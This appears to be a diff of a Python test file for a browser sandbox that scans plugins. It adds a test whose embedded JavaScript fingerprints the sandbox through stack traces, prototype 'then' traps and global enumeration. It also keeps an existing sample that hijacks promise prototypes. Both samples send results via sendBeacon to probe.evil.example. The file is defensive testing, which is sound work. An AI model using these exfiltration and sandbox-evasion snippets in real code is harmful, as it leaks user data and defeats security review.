@@ -186,8 +186,8 @@ def test_a_poll_every_few_seconds_is_not_a_flood(
 
 
 def test_the_clock_reads_nothing_the_page_redefined(pool: BrowserPool, tmp_path: Path) -> None:
-    """The jump answers with a promise the host awaits: a page that redefines how promises
-    are awaited (species, a thenable Object.prototype) neither sees the jump nor stops it."""
+    """A jump the host waits for: a page that redefines how promises are awaited (species,
+    a thenable Object.prototype) neither sees the jump nor stops it."""
     body = (
         "var seen = function (what) { navigator.sendBeacon('https://probe.evil.example/' + what); };"
         "Object.defineProperty(Promise.prototype, 'constructor', { configurable: true,"
@@ -202,6 +202,28 @@ def test_the_clock_reads_nothing_the_page_redefined(pool: BrowserPool, tmp_path:
     assert "runtime-exfiltration" in _rules(findings)
     trace = json.loads(result.artifacts["trace-user.json"])
     assert not [e for e in trace["events"] if "probe.evil.example" in str(e.get("url", ""))]
+
+
+def test_the_host_leaves_no_trace_a_plugin_could_test(pool: BrowserPool, tmp_path: Path) -> None:
+    """A plugin looking for the sandbox finds nothing of ours: no driver frame in the
+    stack of its mount, no global it can list, no read of a "then" it defined."""
+    body = (
+        "var seen = []; if (/UtilityScript|evaluate|playwright/i.test(new Error().stack)) seen.push('stack');"
+        "Object.defineProperty(Object.prototype, 'then', { configurable: true,"
+        " get: function () { if (seen.indexOf('then') < 0) seen.push('then'); return undefined; } });"
+        "var mine = Object.getOwnPropertyNames(window); setTimeout(function () {"
+        " Object.getOwnPropertyNames(window).forEach(function (k) {"
+        "  if (mine.indexOf(k) < 0 && k !== 'seen') seen.push('global-' + k); });"
+        " navigator.sendBeacon('https://probe.evil.example/saw/' + seen.join(',')); }, 1000);"
+    )
+    findings, result = _run(pool, _plugin(tmp_path, body))
+    assert result.status is StageStatus.OK
+    probes = [
+        str(e.get("url"))
+        for e in json.loads(result.artifacts["trace-user.json"])["events"]
+        if "probe.evil.example" in str(e.get("url", ""))
+    ]
+    assert probes == ["https://probe.evil.example/saw/"]
 
 
 def test_a_payload_counting_interval_ticks_still_fires(pool: BrowserPool, tmp_path: Path) -> None:
